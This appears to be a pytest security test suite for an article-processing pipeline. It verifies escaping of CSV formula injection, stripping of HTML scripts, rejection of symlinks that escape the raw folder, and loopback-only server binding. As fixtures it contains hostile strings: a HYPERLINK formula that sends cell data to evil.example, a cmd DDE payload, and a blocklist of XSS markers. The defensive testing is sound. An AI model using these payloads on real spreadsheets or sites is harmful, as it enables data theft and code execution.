"""Security, end to end through the real job (raw files in, a published release out):

- spreadsheet formula injection: cells starting with = + - @ (a headline
  ``=HYPERLINK(...)``, a JSON title ``+cmd|...``, a publisher ``@SUM(...)``, an
  evidence sentence starting ``@SUM(...)`` before an organisation's name, file names
  starting with ``@`` and ``=``) are prefixed with ``'`` in every CSV and kept exact in
  the Parquet;
- HTML: <script> (in head and body, inline, module, inside SVG), <noscript>, event
  handler attributes and iframes never reach any published cell or file, through both
  the trafilatura path (script-page.html) and the lxml fallback (script-fragment.htm);
- symbolic links out of the raw folder (to a file and to a directory) are rejects,
  and nothing of what they point at is read, cached or published;
- the UI and every server the project starts bind to 127.0.0.1.
"""
from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from conftest import copy_articles, run_job
from pipeline import schemas

pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parent.parent
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SECRET = ("Zanzibar Secret Innovation Park signed a memorandum of understanding with the "
          "Pemba Hidden Technology Hub. SECRETMARKER41\n")
# Strings of the hostile HTML that must appear nowhere in a release.
HTML_FORBIDDEN = ("xssmarker", "<script", "</script", "attacker.invalid", "alert(",
                  "document.cookie", "onerror", "onload", "javascript:")


def org_names(tables) -> set[str]:
    orgs = tables["organisations"]
    return set(orgs["name"]) | {a for aliases in orgs["aliases"] for a in aliases}


def cells(df: pd.DataFrame):
    for col in df.columns:
        for v in df[col]:
            if isinstance(v, str):
                yield col, v
            elif hasattr(v, "__iter__") and not isinstance(v, (bytes, dict)):
                for item in v:
                    yield col, str(item)


@pytest.fixture(scope="module")
def published(tmp_path_factory, instance):
    root = tmp_path_factory.mktemp("security")
    raw, out = root / "raw", root / "out"
    raw.mkdir()
    copy_articles(raw, "formula-headline.txt", "formula-fields.json", "script-page.html",
                  "script-fragment.htm", sub="robustness")
    (raw / "@SUM(A1).docx").write_bytes(b"PK\x03\x04 not an article")
    (raw / "=HYPERLINK(1).pdf").write_bytes(b"%PDF-1.4 not an article")
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET, encoding="utf-8")
    (outside / "also-secret.txt").write_text(SECRET.replace("41", "42"), encoding="utf-8")
    os.symlink(outside / "secret.txt", raw / "leak.txt")
    os.symlink(outside, raw / "leakdir")
    res = run_job(raw, out, instance)
    assert res.success
    latest = out / "latest"
    tables = {t: pd.read_parquet(latest / f"{t}.parquet") for t in schemas.TABLES}
    return root, out, latest, tables


# ------------------------------------------------------------------------ formula injection


def test_no_csv_cell_starts_with_a_formula_trigger(published):
    _, _, latest, _ = published
    guarded = 0
    for t in schemas.TABLES:
        text = (latest / f"{t}.csv").read_bytes().decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(TRIGGERS), f"{t}.csv: {cell!r}"
                guarded += cell.startswith("'") and cell[1:2] in TRIGGERS
    assert guarded >= 6  # the cells below, at least


def test_formula_cells_are_guarded_in_csv_and_exact_in_parquet(published):
    _, _, latest, tables = published

    def csv_column(table: str, column: str) -> list[str]:
        with open(latest / f"{table}.csv", encoding="utf-8", newline="") as f:
            return [r[column] for r in csv.DictReader(f)]

    arts = tables["articles"]
    headline = '=HYPERLINK("http://evil.example/steal?c="&A1,"Aurora park news")'
    json_title = "+cmd|' /C calc'!A0 Tartu incubator news"
    assert headline in set(arts["title"]) and json_title in set(arts["title"])
    assert "@SUM(A1:A9)" in set(arts["publisher"])
    assert "'" + headline in csv_column("articles", "title")
    assert "'" + json_title in csv_column("articles", "title")
    assert "'@SUM(A1:A9)" in csv_column("articles", "publisher")

    # The sentence an agreement was read from starts with a formula, then an org name.
    evidence = [e for e in tables["agreements"]["evidence"] if "Aurora Technology Park" in e]
    assert evidence and evidence[0].startswith("@SUM(1+1)*cmd|")
    assert "'" + evidence[0] in csv_column("agreements", "evidence")
    names = org_names(tables)
    assert {"Aurora Technology Park", "Riga Digital Innovation Hub"} <= names

    # File names are data too: the rejects' source_path.
    rej = tables["rejects"]
    assert {"@SUM(A1).docx", "=HYPERLINK(1).pdf"} <= set(rej["source_path"])
    assert {"'@SUM(A1).docx", "'=HYPERLINK(1).pdf"} <= set(csv_column("rejects", "source_path"))


# ------------------------------------------------------------------------ HTML scripts


def test_html_scripts_never_reach_a_published_cell(published):
    root, out, latest, tables = published
    arts = tables["articles"]
    assert {"script-page.html", "script-fragment.htm"} <= set(arts["source_path"])
    names = org_names(tables)
    # Not vacuous: the visible text of both pages was read and extracted.
    assert {"Lisbon Innovation Hub", "Tbilisi Technology Park", "Vilnius Tech Park"} <= names
    for t, df in tables.items():
        for col, v in cells(df):
            low = v.lower()
            assert not any(s in low for s in HTML_FORBIDDEN), f"{t}.{col}: {v!r}"
    # Nor any file of the release, nor the extraction cache.
    files = [p for p in latest.iterdir()] + [p for p in (out / ".cache").rglob("*") if p.is_file()]
    assert any(p.suffix == ".json" for p in files if ".cache" in p.parts)
    own_script = b'<script src="site.js"></script>'  # the release page's own search script
    for p in files:
        data = p.read_bytes().lower()
        if p.name == "index.html":
            assert data.count(own_script) == 1
            data = data.replace(own_script, b"")
        for s in HTML_FORBIDDEN:
            assert s.encode() not in data, f"{p.name} holds {s!r}"


# ------------------------------------------------------------------------ symlinks


def test_symlinks_out_of_the_raw_folder_are_rejected_and_not_read(published):
    root, out, latest, tables = published
    rej = tables["rejects"].set_index("source_path")
    for link in ("leak.txt", "leakdir"):
        assert rej.loc[link, "reason"] == "symlink_outside_raw"
        assert pd.isna(rej.loc[link, "sha256"])  # never read, so never hashed
        assert rej.loc[link, "message"]
    assert not any(p.startswith("leak") for p in tables["articles"]["source_path"])
    secret_sha = hashlib.sha256(SECRET.encode()).hexdigest()
    forbidden = [b"SECRETMARKER", b"Zanzibar", b"Pemba", secret_sha.encode(), secret_sha[:16].encode()]
    files = [p for p in latest.iterdir()] + [p for p in (out / ".cache").rglob("*") if p.is_file()]
    for p in files:
        data = p.read_bytes()
        assert not any(s in data for s in forbidden), p.name
    # The CSV of rejects lists both links for the person who has to fix them.
    assert b"leak.txt" in (latest / "rejects.csv").read_bytes()


# ------------------------------------------------------------------------ servers


SERVER_CMD = re.compile(r"dagster-webserver|dagster\s+dev\b|dagster\s+code-server|"
                        r"dagster\s+api\s+grpc|dagster-daemon")
HOST_OPT = re.compile(r"(?:^|\s)(?:-h|--host|--dagit-host)(?:\s+|=)(\S+)")


def test_ui_and_servers_bind_to_localhost():
    texts = {name: (REPO / name).read_text(encoding="utf-8")
             for name in ("Makefile", "README.md", "workspace.yaml", "dagster.yaml")}
    for name, text in texts.items():
        assert "0.0.0.0" not in text and "[::]" not in text, name
    commands = [(name, line) for name, text in texts.items() for line in text.splitlines()
                if SERVER_CMD.search(line) and not line.lstrip().startswith("#")]
    webserver = [c for c in commands if "webserver" in c[1] or re.search(r"dagster\s+dev", c[1])]
    assert any(n == "Makefile" for n, _ in webserver) and any(n == "README.md" for n, _ in webserver)
    for name, line in commands:
        for host in HOST_OPT.findall(line):
            assert host in ("127.0.0.1", "localhost"), f"{name}: {line.strip()}"
    for name, line in webserver:
        assert HOST_OPT.findall(line) == ["127.0.0.1"], f"{name}: {line.strip()}"
    # A gRPC code server in the workspace would need its own host.
    assert "grpc_server" not in texts["workspace.yaml"] or \
        re.search(r"host:\s*(127\.0\.0\.1|localhost)", texts["workspace.yaml"])
    # And the webserver's own default, for anyone who starts it by hand, is loopback.
    proc = subprocess.run([str(Path(sys.executable).parent / "dagster-webserver"), "--help"],
                          capture_output=True, text=True, timeout=120)
    assert re.search(r"--host TEXT\s+Host to run server on\s+\[default: 127\.0\.0\.1\]",
                     " ".join(proc.stdout.split()))
